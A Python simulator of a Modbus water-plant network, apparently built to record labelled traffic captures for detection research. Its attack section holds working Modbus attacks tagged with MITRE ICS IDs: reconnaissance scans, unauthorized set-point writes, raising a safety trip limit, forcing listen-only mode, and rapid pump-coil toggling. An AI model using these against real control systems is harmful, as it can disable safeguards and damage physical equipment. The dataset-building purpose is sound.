#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The Modbus plant: a tank, a pump station, a gateway, and those who talk to them.

    modbus.py captures                 what can be recorded: name, seconds
    modbus.py needs                    what it runs besides Python: nothing
    modbus.py nodes CAPTURE            who takes part: name, MAC, address, TTL
    modbus.py run CAPTURE NODE START   plays one of them, with time 0 at START

Servers and clients are pymodbus. The rogue is a client of sockets alone, so
that it can send what a well-behaved library would not. Steps of an attack are
printed as JSON, one a line. The set-points come from a generator seeded with
the capture's name: recorded again, they are the same; only the timing moves.
"""
import asyncio
import json
import math
import random
import socket
import struct
import sys
import time
from types import SimpleNamespace

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.datastore import (ModbusSequentialDataBlock, ModbusServerContext,
                                ModbusSlaveContext)
from pymodbus.diag_message import (ForceListenOnlyModeRequest,
                                   RestartCommunicationsOptionRequest)
from pymodbus.exceptions import ModbusException
from pymodbus.mei_message import ReadDeviceInformationRequest
from pymodbus.server.async_io import ModbusConnectedRequestHandler, ModbusTcpServer

from stage import curtain

TANK, PUMPS, GATEWAY = "10.20.0.11", "10.20.0.12", "10.20.0.13"

NODES = {  # name: MAC, address, TTL
    "tank": ("00:80:f4:1a:20:11", TANK, 64),
    "pumps": ("00:0e:8c:1a:20:12", PUMPS, 30),
    "gateway": ("00:a0:45:1a:20:13", GATEWAY, 64),
    "hmi": ("00:1b:1b:1a:20:05", "10.20.0.5", 128),
    "station": ("3c:97:0e:1a:20:14", "10.20.0.20", 128),
    "historian": ("00:14:22:1a:20:1e", "10.20.0.30", 64),
    "rogue": ("b8:27:eb:66:66:66", "10.20.0.66", 64),
}

CAPTURES = {  # name: seconds, day (the totalizers go on counting), the attack
    "modbus-plant-learn": SimpleNamespace(seconds=120, day=0, attack=None),
    "modbus-plant-normal": SimpleNamespace(seconds=90, day=1, attack=None),
    "modbus-plant-attack-rogue": SimpleNamespace(seconds=90, day=2, attack="rogue"),
    "modbus-plant-attack-setpoint": SimpleNamespace(seconds=90, day=3, attack="hmi"),
    "modbus-plant-attack-stop": SimpleNamespace(seconds=100, day=4, attack="station"),
}


async def at(start, second):
    """Sleep until `second` of the recording."""
    await asyncio.sleep(start + second - time.time())


# --- the devices -------------------------------------------------------------

def device(product, co=(), di=(), hr=(), ir=(), move=None):
    """One unit: its four tables, its identification objects, what its process does."""
    code, revision, name, model, use = product
    identity = ("Marshwater Controls", code, revision, "https://marshwater.example",
                name, model, use)
    return SimpleNamespace(co=co, di=di, hr=hr, ir=ir, move=move,
                           identity=dict(enumerate(identity)))


def noise(spread):
    """A sensor's last digits; bounded, so that a recording shows all of it."""
    return random.randint(-spread, spread)


def wave(now, height, pace):
    """A slow swing with flat tops, so that a recording shows its extremes for a while."""
    return height * max(-0.9, min(0.9, math.sin(now / pace)))


def settle(value, target, tau, dt):
    """A first-order lag: `tau` seconds to go 63 % of the way."""
    return value + (target - value) * dt / tau


def move_tank(io, mem, dt, now):
    """Level and temperature follow their set-points; too high a level trips the inlet pump."""
    level_sp, temp_sp, dosing_sp = io.hr[:3]
    mem.trip = mem.level >= io.hr[10] or (mem.trip and mem.level > io.hr[10] - 50)
    run = io.co[0] and not mem.trip
    mem.level = settle(mem.level, level_sp if run else 0, 5 if run else 60, dt)
    mem.temp = settle(mem.temp, temp_sp, 8, dt)
    io.ir[:] = [round(mem.level) + noise(2), round(mem.temp) + noise(1),
                round(300 + wave(now, 40, 7)) + noise(1) if run else 0,
                300 + noise(5), round(98 + mem.level * 0.4), dosing_sp + noise(1)]
    io.di[:4] = [int(run), io.co[1], int(mem.trip), int(mem.level <= io.hr[11])]


def move_pumps(io, mem, dt, now):
    """Two pumps on one header: speed and pressure follow, current follows speed."""
    speed_sp, pressure_sp = io.hr[:2]
    running = io.co[0] + io.co[1]
    mem.speed = settle(mem.speed, speed_sp if running else 0, 3, dt)
    mem.pressure = settle(mem.pressure, pressure_sp * (0.9 + 0.05 * running) if running else 0,
                          4, dt)
    io.ir[:] = [round(mem.speed) + noise(1), round(mem.speed * 0.6 * running),
                round(mem.pressure), 12 + 5 * running + noise(1),
                round(415 + wave(now, 6, 12))]
    io.di[:2] = io.co[:2]


def move_meter(io, mem, dt, now):
    """Three-phase power; the energy counter (two registers) only ever counts up."""
    power = round(4200 + wave(now, 300, 10)) + noise(3) * 5
    mem.energy += power * dt / 100
    io.ir[:] = [*(2300 + noise(2) for _ in range(3)), *(round(power / 69) for _ in range(3)),
                power, 500 + noise(1),
                int(mem.energy) >> 16, int(mem.energy) & 0xFFFF]


def move_drive(io, mem, dt, now):
    """A variable speed drive: status word, actual speed, torque after the reference."""
    mem.speed = settle(mem.speed, io.hr[0], 3, dt)
    io.hr[1:4] = [0x0237, round(mem.speed) + noise(2), round(350 + mem.speed * 0.1)]


def move_analyser(io, mem, dt, now):
    """pH and turbidity, slow and quiet."""
    io.ir[:] = [round(710 + wave(now, 8, 12)), round(34 + wave(now, 3, 9)), 0]


def units(node):
    """The units behind a server's address."""
    if node == "tank":
        return {1: device(("MW-340", "2.4.1", "Tank controller", "MW-340-16IO", "Tank 1"),
                          co=[1, 1, 1, 0], di=[1, 1, 0, 0, 1, 1, 0, 0],
                          hr=[500, 600, 50, 1, 120, 35, 0, 0, 0, 0, 900, 100, 850, 0, 0, 0],
                          ir=[0] * 6, move=move_tank)}
    if node == "pumps":
        return {1: device(("MW-210", "1.9.0", "Pump controller", "MW-210-2P", "Pump station"),
                          co=[1, 0], di=[1, 0], hr=[120, 40, 50, 1], ir=[0] * 5,
                          move=move_pumps)}
    return {1: device(("MW-EM3", "3.0.2", "Energy meter", "MW-EM3-T", "Feeder A"),
                      ir=[0] * 10, move=move_meter),
            2: device(("MW-VX7", "5.11", "Variable speed drive", "MW-VX7-7K5", "Mixer drive"),
                      hr=[1000, 0x0237, 1000, 450], move=move_drive),
            3: device(("MW-QA2", "1.2.6", "Water analyser", "MW-QA2-PT", "Outlet quality"),
                      ir=[0] * 3, move=move_analyser)}


class Context(ModbusServerContext):
    """Lets requests for absent units through to execute(), which answers exception 0x0B."""

    def slaves(self):
        return [*super().slaves(), 0xFF]


class Handler(ModbusConnectedRequestHandler):
    """Adds what pymodbus leaves out: listen-only mode, and an identity per unit."""

    def execute(self, request, *addr):
        control = self.server.control
        if control.ListenOnly:
            if isinstance(request, RestartCommunicationsOptionRequest):
                control.ListenOnly = False
            return  # the specification wants silence, to the restart too
        control.Identity.update(self.server.identities.get(request.unit_id, {}))
        super().execute(request, *addr)


async def serve(tasks, node, capture, start):
    """A server and the process behind it."""
    slaves, identities, processes = {}, {}, []
    for unit, spec in units(node).items():
        blocks = {table: ModbusSequentialDataBlock(0, getattr(spec, table) or [0])
                  for table in ("co", "di", "hr", "ir")}
        slaves[unit] = ModbusSlaveContext(zero_mode=True, **blocks)
        identities[unit] = spec.identity
        io = SimpleNamespace(**{table: block.values for table, block in blocks.items()})
        mem = SimpleNamespace(level=500.0, temp=600.0, trip=False, speed=float(io.hr[0]),
                              pressure=40.0, energy=81_250_000 + 3_900_000 * capture.day)
        processes.append((spec.move, io, mem))
    server = ModbusTcpServer(Context(slaves, single=False), handler=Handler,
                             address=("0.0.0.0", 502))
    server.identities = identities
    tasks.create_task(server.serve_forever())
    for tick in range(capture.seconds * 5 + 100):
        for move, io, mem in processes:
            move(io, mem, 0.2, tick * 0.2)
        await at(start, tick * 0.2) if tick else await asyncio.sleep(0)


# --- the regular clients -----------------------------------------------------

HMI_POLLS = [  # server, unit, function, address, count, period
    (TANK, 1, "read_input_registers", 0, 6, 0.5),
    (TANK, 1, "read_discrete_inputs", 0, 8, 1),
    (TANK, 1, "read_coils", 0, 4, 1),
    (TANK, 1, "read_holding_registers", 0, 6, 2),
    (TANK, 1, "read_holding_registers", 10, 3, 5),
    (PUMPS, 1, "read_input_registers", 0, 5, 1),
    (PUMPS, 1, "read_coils", 0, 2, 1),
    (PUMPS, 1, "read_discrete_inputs", 0, 2, 1),
    (PUMPS, 1, "read_holding_registers", 0, 4, 2),
    (GATEWAY, 1, "read_input_registers", 0, 10, 2),
    (GATEWAY, 2, "read_holding_registers", 0, 4, 1),
    (GATEWAY, 3, "read_input_registers", 0, 3, 5),
]

HISTORIAN_POLLS = [
    (TANK, 1, "read_input_registers", 0, 6, 5),
    (PUMPS, 1, "read_input_registers", 0, 5, 5),
    (GATEWAY, 1, "read_input_registers", 0, 10, 10),
]

# What the operator may write: server, unit, function, address, lowest and highest value.
LEVEL = (TANK, 1, "write_register", 0, 400, 600)
TEMPERATURE = (TANK, 1, "write_register", 1, 550, 650)
DOSING = (TANK, 1, "write_register", 2, 20, 80)
SPEED_PRESSURE = (PUMPS, 1, "write_registers", 0, (90, 30), (140, 50))
DRIVE = (GATEWAY, 2, "write_register", 0, 800, 1200)
PUMP_2 = (PUMPS, 1, "write_coil", 1, False, True)

# When, and for learning where in the band (0 = lowest, 1 = highest).
LEARN = [(8, LEVEL, 1), (12, SPEED_PRESSURE, 0), (16, TEMPERATURE, 0), (20, PUMP_2, 1),
         (24, DOSING, 0), (29, DRIVE, 1), (33, LEVEL, 0), (38, SPEED_PRESSURE, 1),
         (43, TEMPERATURE, 1), (47, DOSING, 1), (52, PUMP_2, 0), (56, LEVEL, 0.6),
         (60, DRIVE, 0), (64, SPEED_PRESSURE, 0.4), (68, PUMP_2, 1), (73, LEVEL, 0.3),
         (78, TEMPERATURE, 0.3), (82, DOSING, 0.5), (86, DRIVE, 0.5), (92, LEVEL, 0.8),
         (97, PUMP_2, 0), (102, SPEED_PRESSURE, 0.7), (107, TEMPERATURE, 0.6),
         (112, LEVEL, 0.5)]
DAILY = [(6, TEMPERATURE), (13, LEVEL), (18, PUMP_2), (23, SPEED_PRESSURE), (31, DRIVE),
         (36, DOSING), (41, PUMP_2), (79, LEVEL), (83, SPEED_PRESSURE), (86, TEMPERATURE)]


class Link:
    """One connection to one server, one request outstanding at a time."""

    def __init__(self, host):
        self.host, self.lock, self.client = host, asyncio.Lock(), None

    async def connect(self):
        self.client = AsyncModbusTcpClient(self.host)
        await self.client.connect()

    async def close(self):
        client, self.client = self.client, None
        if client:
            await client.close()

    async def ask(self, call):
        """Send what call(client) makes; on silence, hang up, wait a little, connect again."""
        async with self.lock:
            try:
                if not self.client:
                    await self.connect()
                return await call(self.client)
            except (asyncio.TimeoutError, ModbusException) as exc:
                print(f"{time.time():.3f} {self.host}: {exc!r}", file=sys.stderr)
                await self.close()
                await asyncio.sleep(1)
                return None

    async def reconnect(self):
        async with self.lock:
            await self.close()
            await asyncio.sleep(0.5)
            await self.connect()


async def poll(link, start, phase, unit, function, address, count, period):
    """Ask the same question for ever, as punctual as such stations are."""
    due = phase
    while True:
        await at(start, due + random.gauss(0, 0.003))
        await link.ask(lambda client: getattr(client, function)(address, count, slave=unit))
        due += period * max(1, math.ceil((time.time() - start - due) / period))


def start_polls(tasks, polls, start, phase):
    """Start to poll at `phase` seconds; returns the connections, by server."""
    links = {}
    for index, (host, *question) in enumerate(polls):
        link = links.setdefault(host, Link(host))
        tasks.create_task(poll(link, start, phase + index * 0.04, *question))
    return links


def between(low, high, where):
    """The value at `where` (0 to 1) of a band; of each register, if there are several."""
    if isinstance(low, tuple):
        return [between(*band, where) for band in zip(low, high)]
    return where > 0.5 if isinstance(low, bool) else round(low + (high - low) * where)


async def operate(links, name, start):
    """The operator: set-points within their bands, the second pump on and off."""
    dice, pump = random.Random(name), 0
    plan = LEARN
    if name != "modbus-plant-learn":
        plan = [(second + dice.uniform(-1, 1), what, dice.uniform(0.1, 0.9))
                for second, what in DAILY]
    for second, what, where in plan:
        host, unit, function, address, low, high = what
        if what is PUMP_2:
            pump = where = 1 - pump
        value = between(low, high, where)
        await at(start, second + random.uniform(0, 0.9))
        await links[host].ask(
            lambda client: getattr(client, function)(address, value, slave=unit))


async def hmi(tasks, name, capture, start):
    """Polls everything, and carries the operator's hand."""
    links = start_polls(tasks, HMI_POLLS, start, 1)
    tasks.create_task(operate(links, name, start))
    if name == "modbus-plant-normal":
        await at(start, 48)
        await links[TANK].reconnect()
    if capture.attack == "hmi":
        await attack_setpoint(start)


async def historian(tasks, name, capture, start):
    """Polls little, and keeps it for ever."""
    start_polls(tasks, HISTORIAN_POLLS, start, 3)


async def station(tasks, name, capture, start):
    """The engineering station asks every device once who it is."""
    for second, host, unit in ((26, TANK, 1), (27, PUMPS, 1),
                               (28, GATEWAY, 1), (28.5, GATEWAY, 2), (29, GATEWAY, 3)):
        await at(start, second + random.uniform(0, 0.3))
        link = Link(host)
        for read_code in (1, 2):
            await link.ask(lambda client: client.execute(
                ReadDeviceInformationRequest(read_code, 0, unit=unit)))
        await link.close()
    if capture.attack == "station":
        await attack_stop(start)


# --- the attacks -------------------------------------------------------------

class Step:
    """with Step(...): prints what was done, and from when to when."""

    def __init__(self, name, what, attacker, target, techniques, frames):
        self.record = {"name": name, "what": what, "attacker": NODES[attacker][1],
                       "mac": NODES[attacker][0], "target": target, "techniques": techniques,
                       "frames": f"eth.src == {NODES[attacker][0]} && ({frames})"}

    def __enter__(self):
        self.record["start"] = time.time()

    def __exit__(self, *_):
        self.record["end"] = time.time()
        print(json.dumps(self.record), flush=True)


def raw_open(host, timeout=1):
    return socket.create_connection((host, 502), timeout)


def raw_ask(sock, unit, function, body=b""):
    """One request as bytes, one answer as bytes."""
    raw_ask.tid += 1
    sock.sendall(struct.pack(">HHHBB", raw_ask.tid, 0, 2 + len(body), unit, function) + body)
    return sock.recv(300)


raw_ask.tid = 0


def attack_rogue():
    """A new device finds the servers, learns what the tank is, and takes its set-points."""
    with Step("sweep", "connects to port 502 of 10.20.0.10 to .14, of which .11 to .13 exist",
              "rogue", "10.20.0.10-14", ["T0846"], "tcp.flags == 2 || arp.opcode == 1"):
        for last in range(10, 15):
            try:
                raw_open(f"10.20.0.{last}", 0.7).close()
            except OSError:
                pass
            time.sleep(0.2)
        time.sleep(2)  # the kernel asks three times for the address of .14
    with raw_open(TANK) as sock:
        with Step("unit-scan", "reads one register of every unit id it can think of",
                  "rogue", TANK, ["T0846", "T0848"], "modbus.func_code == 3"):
            for unit in (*range(0, 17), 100, 247, 255):
                raw_ask(sock, unit, 3, struct.pack(">HH", 0, 1))
                time.sleep(0.1)
        time.sleep(1.5)
        with Step("function-scan", "tries function codes, known and unknown, none that writes",
                  "rogue", TANK, ["T0888", "T0848"], "modbus && modbus.func_code != 3"):
            for function, body in ((1, b"\0\0\0\1"), (2, b"\0\0\0\1"), (4, b"\0\0\0\1"),
                                   (7, b""), (8, b"\0\0\x12\x34"), (9, b""), (10, b""),
                                   (11, b""), (12, b""), (13, b""), (14, b""), (17, b""),
                                   (18, b""), (19, b""), (40, b""), (65, b""), (90, b"\0\2"),
                                   (100, b"")):
                raw_ask(sock, 1, function, body)
                time.sleep(0.1)
        time.sleep(1.5)
        with Step("identify", "reads device identification: basic, regular, extended",
                  "rogue", TANK, ["T0888"], "modbus.func_code == 43"):
            for read_code in (1, 2, 3):
                raw_ask(sock, 1, 43, bytes((14, read_code, 0)))
                time.sleep(0.3)
        time.sleep(1.5)
        with Step("map", "reads holding registers in blocks of eight until it meets exceptions",
                  "rogue", TANK, ["T0861", "T0801"], "modbus.func_code == 3"):
            for address in range(0, 40, 8):
                raw_ask(sock, 1, 3, struct.pack(">HH", address, 8))
                time.sleep(0.2)
    time.sleep(3)
    with raw_open(TANK) as sock:
        with Step("write", "writes level 150 and temperature 800, then all three set-points",
                  "rogue", TANK, ["T0848", "T0855", "T0836", "T0831"],
                  "modbus.func_code in {6, 16}"):
            raw_ask(sock, 1, 6, struct.pack(">HH", 0, 150))
            time.sleep(1)
            raw_ask(sock, 1, 6, struct.pack(">HH", 1, 800))
            time.sleep(1)
            raw_ask(sock, 1, 16, struct.pack(">HHBHHH", 0, 3, 6, 120, 830, 95))


async def rogue(tasks, name, capture, start):
    await at(start, 45)
    attack_rogue()


async def attack_setpoint(start):
    """Malware on the HMI, over a connection of its own: past the band, then past the guard."""
    await at(start, 50)
    link = Link(TANK)
    with Step("set-point", "writes level set-point 980; the operator's band is 400 to 600",
              "hmi", TANK, ["T0855", "T0836", "T0831"],
              "modbus.func_code == 6 && modbus.reference_num == 0"):
        await link.ask(lambda client: client.write_register(0, 980, slave=1))
    await at(start, 66)
    with Step("safety-limit", "writes 1000 to register 10, the high level limit, only ever read",
              "hmi", TANK, ["T0855", "T0836", "T0838", "T0837"],
              "modbus.func_code == 6 && modbus.reference_num == 10"):
        await link.ask(lambda client: client.write_register(10, 1000, slave=1))
    await link.close()


async def unanswered(link, request):
    """Send a request that the specification wants no answer to."""
    try:
        await link.client.execute(request)
    except asyncio.TimeoutError:
        return
    sys.exit("a controller in listen-only mode answered")


async def attack_stop(start):
    """From the engineering station: silence a controller, wake it, wear out its pump."""
    await at(start, 45)
    link = Link(PUMPS)
    await link.connect()
    with Step("listen-only", "diagnostics 08/04: the controller stops answering anyone",
              "station", PUMPS, ["T0855", "T0804", "T0803", "T0814"],
              "modbus.func_code == 8 && modbus.diagnostic_code == 4"):
        await unanswered(link, ForceListenOnlyModeRequest(unit=1))
    await at(start, 57)
    with Step("restart", "diagnostics 08/01: restart communications, out of listen-only mode",
              "station", PUMPS, ["T0855", "T0816"],
              "modbus.func_code == 8 && modbus.diagnostic_code == 1"):
        await unanswered(link, RestartCommunicationsOptionRequest(unit=1))
    await at(start, 65)
    with Step("toggle", "60 commands in six seconds to the coil of pump 2, on and off",
              "station", PUMPS, ["T0855", "T0806", "T0831"], "modbus.func_code == 5"):
        for i in range(60):
            await at(start, 65 + i * 0.1)
            await link.ask(lambda client: client.write_coil(1, i % 2 == 0, slave=1))
    await link.close()


# --- the command line --------------------------------------------------------

ROLES = {"hmi": hmi, "historian": historian, "station": station, "rogue": rogue}


async def run(name, node, start):
    capture = CAPTURES[name]
    async with asyncio.TaskGroup() as tasks:
        if node in ROLES:
            await ROLES[node](tasks, name, capture, start)
        else:
            await serve(tasks, node, capture, start)
        await asyncio.sleep(3600)  # the recording ends us


def main():
    command, *args = sys.argv[1:] or ["help"]
    if command == "captures":
        for name, capture in CAPTURES.items():
            print(name, capture.seconds)
    elif command == "needs":
        pass
    elif command == "nodes":
        for node, (mac, address, ttl) in NODES.items():
            if node != "rogue" or CAPTURES[args[0]].attack == "rogue":
                print(node, mac, address, ttl)
    elif command == "run":
        asyncio.run(run(args[0], args[1], curtain(args[2])))
    else:
        sys.exit(__doc__)


main()
